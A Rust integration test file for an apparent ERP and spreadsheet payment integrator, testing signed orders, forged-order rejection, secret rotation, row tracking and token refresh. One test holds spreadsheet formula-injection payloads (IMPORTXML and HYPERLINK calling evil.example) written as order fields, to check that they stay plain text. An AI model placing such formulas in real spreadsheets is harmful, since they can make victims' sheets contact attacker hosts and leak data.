//! The ERP's two directions, and what only a spreadsheet suffers.

use kamurj_sandbox::erp::{Money, Order};
use kamurj_sandbox::sheets::Act;
use kamurj_tests::acts::status;
use kamurj_tests::clock::{hours, minutes};
use kamurj_tests::offices::{Office, Sale};
use kamurj_tests::{World, story};
use serde_json::json;

/// The one payment of the World.
async fn made(world: &World, order: &str) -> Sale {
    let shown = world.shown(order).await;
    Sale {
        payment: shown["id"].as_str().expect("an id").to_owned(),
        order: order.to_owned(),
        link: kamurj_tests::integrator::link(&shown),
        record: String::new(),
    }
}

story!(a_signed_order_of_the_erp_becomes_a_payment_and_its_link_goes_back, |world| {
    let desk = &world.works_with(Office::Erp).await;
    let order = Order::new("E-1", Money::new("12500", "AMD"), "Մեղրով տորթ");
    world.sandbox.erp.order(&order).expect("it knows where");
    world.passes(minutes(1)).await;
    let sale = made(world, "E-1").await;
    let view = world.sandbox.erp.view();
    let known = view.orders.iter().find(|one| one.order_id == "E-1").expect("its own order");
    assert_eq!(known.checkout_url.as_deref(), Some(sale.link.as_str()), "{known:#?}");
    world.pays(&sale.link).await;
    world.passes(minutes(1)).await;
    assert_eq!(world.seen(desk, &sale).status, "paid");
    // The same message again is the same payment.
    world.sandbox.erp.change_faults(|faults| faults.duplicate = 3);
    world.sandbox.erp.order(&Order::new("E-2", Money::new("4800", "AMD"), "Տուփ")).expect("it knows where");
    world.passes(minutes(5)).await;
    assert_eq!(world.payments().await.len(), 2);
});

story!(a8_an_order_that_nobody_signed_or_that_was_changed_makes_no_payment, |world| {
    world.works_with(Office::Erp).await;
    for change in [
        |faults: &mut kamurj_sandbox::erp::ErpFaults| faults.forge = true,
        |faults: &mut kamurj_sandbox::erp::ErpFaults| (faults.forge, faults.stale) = (false, true),
        |faults: &mut kamurj_sandbox::erp::ErpFaults| (faults.stale, faults.tamper) = (false, true),
    ] {
        world.sandbox.erp.change_faults(change);
        world.sandbox.erp.order(&Order::new("E-9", Money::new("12500", "AMD"), "Տորթ")).expect("it knows where");
        world.passes(minutes(1)).await;
    }
    assert!(world.payments().await.is_empty());
});

story!(an_order_that_cannot_be_made_is_told_with_its_field, |world| {
    world.works_with(Office::Erp).await;
    let order =
        json!({ "order_id": "E-3", "amount": { "value": "12500.50", "currency": "AMD" }, "description": "Տորթ" });
    world.sandbox.erp.send("order.created", &order).expect("it knows where");
    world.passes(minutes(1)).await;
    assert!(world.payments().await.is_empty());
    let told = world.sandbox.erp.view().events;
    let rejected: Vec<_> = told.iter().filter(|event| event.kind == "order.rejected").collect();
    assert_eq!(rejected.len(), 1, "{told:#?}");
    assert!(rejected[0].body.contains("E-3") && rejected[0].body.contains("amount"), "{}", rejected[0].body);
});

story!(what_we_send_is_proven_by_an_unmodified_library_with_both_secrets_while_they_change, |world| {
    let desk = &world.works_with(Office::Erp).await;
    let sale = world.makes_sale(desk, "A-1").await;
    let event = world.sandbox.erp.view().events.first().cloned().expect("payment.created");
    assert_eq!((event.verified_by.as_str(), event.attempts), ("whsec 1", 1));
    // The ERP learns the next secret first; we sign with both; then the old one goes.
    let next = kamurj_tests::world::canary("order secret");
    let old = kamurj_tests::world::canary("erp secret");
    world.sandbox.erp.set_endpoint("payments", &[&next]).expect("keys");
    let secrets = json!({ "secrets": { "signing_secret": next, "signing_secret_old": old } });
    world.changes(&desk.path, &secrets).await;
    world.pays(&sale.link).await;
    world.passes(minutes(1)).await;
    assert_eq!(world.seen(desk, &sale).status, "paid");
});

story!(people_sort_rename_and_delete_and_every_row_stays_with_its_payment, |world| {
    let desk = &world.works_with(Office::Sheets).await;
    let mut sales = Vec::new();
    for number in 1..=4 {
        sales.push(world.makes_sale(desk, &format!("A-{number}")).await);
    }
    let book = "1stories-spreadsheet-of-payments";
    let act = |world: &World, act: Act| world.sandbox.sheets.act(book, act).expect("a person may");
    world.sandbox.sheets.change_faults(|faults| faults.sort_leaves_tags = true);
    act(world, Act::Sort { tab: "Payments".to_owned(), column: "B".to_owned(), descending: false });
    act(world, Act::InsertColumn { tab: "Payments".to_owned(), column: "A".to_owned() });
    act(world, Act::RenameTab { tab: "Payments".to_owned(), title: "Վճարումներ 2026".to_owned() });
    for sale in &sales {
        world.pays(&sale.link).await;
        world.passes(minutes(1)).await;
    }
    world.passes(minutes(20)).await;
    let view = world.sandbox.sheets.view();
    let tab = view
        .spreadsheets
        .iter()
        .flat_map(|book| &book.tabs)
        .find(|tab| tab.title == "Վճարումներ 2026")
        .expect("the tab");
    for sale in &sales {
        let rows: Vec<_> =
            tab.rows.iter().filter(|row| row.cells.iter().any(|cell| cell.shown == sale.payment)).collect();
        assert_eq!(rows.len(), 1, "{}", sale.order);
        let cells: Vec<&str> = rows[0].cells.iter().map(|cell| cell.shown.as_str()).collect();
        assert!(cells.contains(&sale.order.as_str()) && cells.contains(&"paid"), "{cells:?}");
    }
});

story!(g4_a_customers_formula_stays_a_text, |world| {
    let desk = &world.works_with(Office::Sheets).await;
    let mut body = kamurj_tests::integrator::order("A-1", "12500");
    body["description"] = json!("=IMPORTXML(\"http://evil.example/\"; \"//a\")");
    body["customer"] = json!({ "name": "+HYPERLINK(\"http://evil.example\")" });
    assert_eq!(world.creates(&body).await.status, 201);
    world.passes(minutes(1)).await;
    let view = world.sandbox.sheets.view();
    assert!(view.formulas_run.is_empty(), "{:#?}", view.formulas_run);
    let formulas = view.spreadsheets.iter().flat_map(|book| &book.tabs).flat_map(|tab| &tab.rows);
    assert!(formulas.flat_map(|row| &row.cells).all(|cell| cell.kind != "formula"));
    assert_eq!(world.seen(desk, &made(world, "A-1").await).status, "awaiting_payment");
});

story!(f4_a_token_that_ends_in_the_middle_is_fetched_once_more_and_work_goes_on, |world| {
    let desk = &world.works_with(Office::Sheets).await;
    let sale = world.makes_sale(desk, "A-1").await;
    world.sandbox.sheets.revoke_tokens();
    world.pays(&sale.link).await;
    world.passes(minutes(1)).await;
    world.passes(minutes(2)).await;
    assert_eq!(world.seen(desk, &sale).status, "paid");
    world.passes(hours(3)).await;
    let other = world.makes_sale(desk, "A-2").await;
    assert_eq!(world.seen(desk, &other).status, "awaiting_payment");
    assert!(world.exceptions().await.is_empty());
    // A key that was taken away is for a person, who enters another one.
    world.sandbox.sheets.delete_key("kamurj@stories.iam.gserviceaccount.com", "key-1");
    world.sandbox.sheets.revoke_tokens();
    world.pays(&other.link).await;
    world.passes(hours(2)).await;
    assert_eq!(status(world, &other.payment).await, "paid");
    let open = kamurj_tests::acts::exceptions(world, "").await;
    assert_eq!(open.len(), 1, "{open:#?}");
    assert_eq!(open[0]["kind"], "reauthorisation_needed");
    assert!(open[0]["detail"].as_str().is_some_and(|text| text.contains("private_key")), "{open:#?}");
});
